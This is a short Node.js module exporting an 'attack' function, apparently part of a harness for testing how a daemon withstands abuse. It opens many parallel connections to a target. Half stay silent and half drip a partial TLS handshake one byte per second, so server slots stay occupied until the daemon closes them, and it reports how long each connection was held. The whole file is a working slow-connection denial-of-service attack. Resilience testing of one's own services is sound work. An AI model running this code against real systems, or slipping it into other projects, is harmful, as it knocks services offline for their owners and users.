// Connects and says nothing, or next to nothing: every other connection begins a
// handshake, a byte a second. Holds on until the daemon has closed the last one, or for
// so many milliseconds.

import { connect } from "node:net";
import { inParallel, Tally } from "../crowd.mjs";

const DRIP_MS = 1_000;
/** The beginning of a TLS record that promises 512 bytes. */
const BEGINNING = Buffer.from("160301020001000001fc0303", "hex");

/** @param {{ host: string, port: number, count: number, ms?: number }} parameters */
export async function attack({ host, port, count, ms = 60_000 }) {
  const tally = new Tally();
  let longest = 0;
  let answered = 0;
  await inParallel(count, count, async (n) => {
    const began = performance.now();
    const socket = connect({ host, port });
    let met = "refused";
    socket.on("data", (data) => {
      answered += data.length;
    });
    socket.on("error", () => {});
    socket.on("connect", () => {
      met = n % 2 ? "slow, closed" : "silent, closed";
    });
    const enough = setTimeout(() => socket.destroy(), ms);
    let said = 0;
    const drip = setInterval(() => {
      if (n % 2 && said < BEGINNING.length) socket.write(BEGINNING.subarray(said, ++said));
    }, DRIP_MS);
    await new Promise((resolve) => socket.once("close", resolve));
    clearInterval(drip);
    clearTimeout(enough);
    tally.add(met);
    longest = Math.max(longest, performance.now() - began);
  });
  return { attempts: count, counts: tally.counts, answered, longest: Math.round(longest) };
}
